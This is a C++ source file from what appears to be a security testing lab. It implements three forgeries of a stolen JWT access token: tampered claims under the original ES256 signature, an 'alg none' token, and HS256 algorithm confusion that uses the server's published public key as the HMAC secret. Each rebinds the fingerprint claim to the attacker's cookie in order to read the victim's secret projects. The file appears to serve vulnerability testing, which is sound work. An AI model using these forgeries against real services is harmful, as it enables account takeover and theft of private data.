// Three forgeries of a stolen access token (stage 5). The thief has alice's access token (from a log, a proxy, a
// Referer) but not the HttpOnly cookie it is bound to, so it rewrites the token's fgp claim to the hash of a cookie
// of its own, pushes exp an hour ahead, and must then make the server believe the altered token:
//   jwt-tampered-claims      keeps the ES256 header and the original signature;
//   jwt-alg-none             says "alg": "none" and sends no signature;
//   jwt-algorithm-confusion  says "alg": "HS256" and signs with the server's public key (published for verifiers)
//                            as the HMAC secret.
// Exploited when the altered token, with the thief's own cookie, lists alice's projects and her secret one.
#include "attacks/attack_list.h"
#include "attacks/web_attack_helpers.h"
#include "core/clock.h"
#include "security/digest.h"
#include "security/hex.h"
#include "security/hmac.h"
#include "web/cookies.h"
#include "web/web_front.h"

namespace lab::attacks {
namespace {

class ForgedAccessToken : public Attack {
 public:
  AttackResult run(const Target& t) const override {
    auto victim = web_victim_with_secret(t);
    if (!victim) return failed("no verdict: " + victim.error().message);
    auto parts = split_jwt(victim->access_token);
    if (!parts) return failed("no verdict: the sign-in answered no readable access token: " + parts.error().message);
    web::HttpsClient thief(web_endpoint(t, t.other_address));
    const std::string cookie = security::random_hex(32);
    parts->payload["fgp"] = security::sha256_hex(cookie);
    parts->payload["exp"] = unix_seconds(system_clock().now()) + 3600;
    auto token = forge(*parts, thief);
    if (!token) return failed("no verdict: " + token.error().message);
    const web::HeaderList headers{{"Authorization", "Bearer " + *token},
                                  {"Cookie", web::cookie_name(web::kFingerprintCookie, true) + "=" + cookie}};
    return verdict_on_reading_secret(thief.request("GET", "/api/projects", headers), *victim,
                                     "with alice's token " + std::string(what()) + " and re-bound to its own cookie");
  }

 protected:
  // The altered token; `server` is the thief's connection, for what it needs to read first.
  virtual Result<std::string> forge(const JwtParts& parts, web::HttpsClient& server) const = 0;
  virtual std::string_view what() const = 0;
};

class TamperedClaims final : public ForgedAccessToken {
 public:
  std::string_view id() const override { return "jwt-tampered-claims"; }
  std::string_view title() const override { return "Alter a signed access token's claims"; }

 private:
  Result<std::string> forge(const JwtParts& parts, web::HttpsClient&) const override {
    return parts.signed_part() + "." + parts.signature;
  }
  std::string_view what() const override { return "altered under its original ES256 signature"; }
};

class AlgNone final : public ForgedAccessToken {
 public:
  std::string_view id() const override { return "jwt-alg-none"; }
  std::string_view title() const override { return "Send an access token signed with alg none"; }

 private:
  Result<std::string> forge(const JwtParts& parts, web::HttpsClient&) const override {
    JwtParts unsigned_token = parts;
    unsigned_token.header = Json{{"alg", "none"}, {"typ", "JWT"}};
    return unsigned_token.signed_part() + ".";
  }
  std::string_view what() const override { return "altered and marked alg none, with no signature"; }
};

class AlgorithmConfusion final : public ForgedAccessToken {
 public:
  std::string_view id() const override { return "jwt-algorithm-confusion"; }
  std::string_view title() const override { return "Sign an access token with HS256 and the server's public key"; }

 private:
  Result<std::string> forge(const JwtParts& parts, web::HttpsClient& server) const override {
    auto key = server.request("GET", "/.well-known/token-key.pem");
    if (!key) return Error{key.error().code, "the thief cannot read the token key: " + key.error().message};
    if (key->status != 200) return Error{ErrorCode::kInternalError, "the token key is not published: " + describe(*key)};
    JwtParts confused = parts;
    confused.header = Json{{"alg", "HS256"}, {"typ", "JWT"}};
    const std::string signed_part = confused.signed_part();
    const auto mac = security::hmac_sha256(key->body, signed_part);
    return signed_part + "." +
           security::base64url_encode(std::string_view(reinterpret_cast<const char*>(mac.data()), mac.size()));
  }
  std::string_view what() const override { return "altered and signed HS256 with the public key as the secret"; }
};

}  // namespace

std::unique_ptr<Attack> make_jwt_tampered_claims() { return std::make_unique<TamperedClaims>(); }
std::unique_ptr<Attack> make_jwt_alg_none() { return std::make_unique<AlgNone>(); }
std::unique_ptr<Attack> make_jwt_algorithm_confusion() { return std::make_unique<AlgorithmConfusion>(); }

}  // namespace lab::attacks
